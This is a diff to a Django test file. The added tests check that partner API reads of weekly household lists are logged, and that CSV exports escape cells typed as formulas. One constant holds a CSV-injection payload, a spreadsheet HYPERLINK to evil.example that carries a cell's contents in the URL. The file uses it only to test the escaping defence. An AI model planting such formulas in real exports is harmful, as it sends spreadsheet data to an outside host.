@@ -7,6 +7,7 @@ import io
 import pytest
 
 from directory.models import Organisation
+from procedure.models import AccessLog
 from tests.letters.factories import granted_on, payment_order_on
 from tests.partner_api import client_with, partner, token_for
 
@@ -14,6 +15,7 @@ pytestmark = pytest.mark.django_db
 
 SUNDAY = datetime.date(2026, 11, 15)  # 2026-W46 runs from Monday 9 to Sunday 15 November
 NEXT_MONDAY = datetime.date(2026, 11, 16)
+PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'  # OWASP, CSV injection
 
 
 @pytest.fixture
@@ -93,3 +95,41 @@ def test_list_queries_stay_flat_as_rows_grow(siao_client, django_assert_max_num_
         granted_on(SUNDAY, reference=f"B{n}")
     with django_assert_max_num_queries(len(two.captured_queries)):
         siao_client.get("/api/v1/listes/siao/2026-W46/")
+
+
+def test_each_list_fetched_through_the_api_is_logged_with_its_organisation_and_row_count():
+    """law.md, "Data protection": every read of households' data is logged, API reads too."""
+    token, secret = token_for(partner(Organisation.Kind.SIAO))
+    client = client_with(secret)
+    granted_on(SUNDAY, reference="DIMANCHE")
+    granted_on(SUNDAY, reference="DIMANCHE-BIS")
+    client.get("/api/v1/listes/siao/2026-W46/")
+    client.get("/api/v1/listes/siao/2026-W46/?format=csv")
+    client.get("/api/v1/listes/siao/semaine-48/")  # refused: nothing read, nothing logged
+
+    logged = AccessLog.objects.order_by("pk")
+    assert [(entry.api_token, entry.user, entry.organisation, entry.detail) for entry in logged] == [
+        (token, None, token.organisation, {"file": "liste-siao-2026-W46.json", "rows": 2}),
+        (token, None, token.organisation, {"file": "liste-siao-2026-W46.csv", "rows": 2}),
+    ]
+    assert logged[0].reader == "API, jeton « système »"
+
+
+def test_the_api_reads_show_in_the_access_log_and_its_export(administrator_client):
+    token, secret = token_for(partner(Organisation.Kind.CAF))
+    payment_order_on(SUNDAY, reference="CP-DIMANCHE")
+    client_with(secret).get("/api/v1/listes/caf/2026-W46/")
+
+    page = administrator_client.get("/journal-des-consultations/").content.decode()
+    assert "API, jeton « système »" in page
+    assert "liste hebdomadaire (API)" in page
+    export = administrator_client.get("/journal-des-consultations/?format=csv").content.decode("utf-8-sig")
+    assert "API, jeton « système »;Partenaire caf;liste hebdomadaire (API)" in export
+
+
+def test_a_list_cell_written_as_a_formula_is_quoted_in_the_csv(siao_client):
+    """OWASP CSV injection: an address typed as a formula reaches the CSV as text."""
+    granted_on(SUNDAY, reference="DIMANCHE", lease__address=PAYLOAD)
+    response = siao_client.get("/api/v1/listes/siao/2026-W46/?format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][3] == "'" + PAYLOAD
